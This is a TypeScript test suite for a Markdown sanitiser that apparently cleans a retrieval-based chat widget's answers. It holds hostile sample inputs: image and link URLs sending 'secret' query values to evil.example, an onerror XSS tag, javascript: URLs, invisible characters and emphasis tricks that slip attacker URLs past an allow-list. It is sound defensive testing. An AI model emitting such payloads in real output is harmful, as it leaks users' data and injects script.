import { describe, expect, it } from 'vitest';
import { linkPolicy } from './link-policy';
import { UNSAFE_LINK_TARGETS } from './link-rule.cases';
import { sanitizeMarkdown } from './sanitize-markdown';

const links = linkPolicy(
  ['https://northwind.example', 'http://localhost:3000'],
  ['Track it at https://track.carrier.example/parcel?id=1 today.'],
);
const clean = (text: string, citationCount = 2) => sanitizeMarkdown(text, { links, citationCount });

describe('sanitizeMarkdown', () => {
  it('removes Markdown images entirely, inline and by reference', () => {
    expect(clean('Sure ![x](https://evil.example/?q=secret) done')).toBe('Sure  done');
    expect(clean('A ![logo](https://northwind.example/logo.png) B')).toBe('A  B');
    expect(clean('See ![x][img]\n[img]: https://evil.example/?q=1\nok')).toBe('See \nok');
  });
  it('keeps links to the tenant’s hosts and to URLs written in the passages, unlinks the rest', () => {
    expect(
      clean('[Book](https://www.northwind.example/book) or [here](https://evil.example/?q=a)'),
    ).toBe('[Book](https://www.northwind.example/book) or here');
    expect(clean('[Track](https://track.carrier.example/parcel?id=1)')).toBe(
      '[Track](https://track.carrier.example/parcel?id=1)',
    );
    expect(clean('[Track](https://track.carrier.example/parcel?id=1&leak=abc)')).toBe('Track');
    expect(clean('go to https://evil.example/x?d=abc now, or https://northwind.example/faq.')).toBe(
      'go to  now, or https://northwind.example/faq.',
    );
    expect(clean('open <https://evil.example> or <https://northwind.example/a>')).toBe(
      'open  or https://northwind.example/a',
    );
  });
  it('strips raw HTML, comments and script URLs', () => {
    expect(
      clean('Hi <img src=x onerror=alert(1)> <b>bold</b><!-- hidden --> <script>x</script>'),
    ).toBe('Hi  bold x');
    expect(clean('&lt;img src=https://evil.example/a.png&gt; ok')).toBe(' ok');
    expect(clean('[click](javascript:alert(1)) and data:text/html,abc')).toBe('click and ');
  });
  it('keeps citations of given passages only, and ordinary brackets and comparisons', () => {
    expect(clean('Yes [1], see [2] and [3].')).toBe('Yes [1], see [2] and .');
    expect(clean('Costs < $100 and [note] (see terms)')).toBe(
      'Costs < $100 and [note] (see terms)',
    );
  });
  it('removes invisible characters', () => {
    expect(clean('ok\u200B\u{E0041}\u202E!')).toBe('ok!');
  });
});

describe('sanitizeMarkdown: one strict link rule (the widget uses the same)', () => {
  // good.example is the tenant's own site: only the spelling decides here, not the host.
  const own = linkPolicy(['https://good.example'], []);
  const guard = (text: string) => sanitizeMarkdown(text, { links: own, citationCount: 0 });

  it('turns a link with a sloppy or foreign target into its label', () => {
    expect(guard('[Claim refund](http:evil.example/steal?c=SECRET )')).toBe('Claim refund');
    for (const target of UNSAFE_LINK_TARGETS)
      expect(guard(`Go: [Claim refund](${target}) now`), JSON.stringify(target)).toBe(
        'Go: Claim refund now',
      );
  });

  it('writes back the parsed href of a good link, dropping a title', () => {
    expect(guard('[Terms](https://GOOD.example/terms "Our terms")')).toBe(
      '[Terms](https://good.example/terms)',
    );
  });

  it('checks URLs inside a link label, and the tokens the widget would cut a URL into', () => {
    expect(guard('[see https://evil.example/?c=S](https://good.example/)')).toBe(
      '[see ](https://good.example/)',
    );
    // `**` inside an approved URL could close a `**` before it in the widget, leaving
    // "https://evil.example/…" as a link of its own; percent-encoded, it cannot.
    expect(guard('**x https://good.example/**https://evil.example/?c=S')).toBe(
      '**x https://good.example/%2A%2Ahttps://evil.example/?c=S',
    );
    expect(guard('__x [a](https://good.example/__https://evil.example/)')).toBe(
      '__x [a](https://good.example/%5F%5Fhttps://evil.example/)',
    );
    expect(guard('xhttps://evil.example/?c=S and https://good.example(@evil.example/')).toBe(
      'x and ',
    );
  });
});
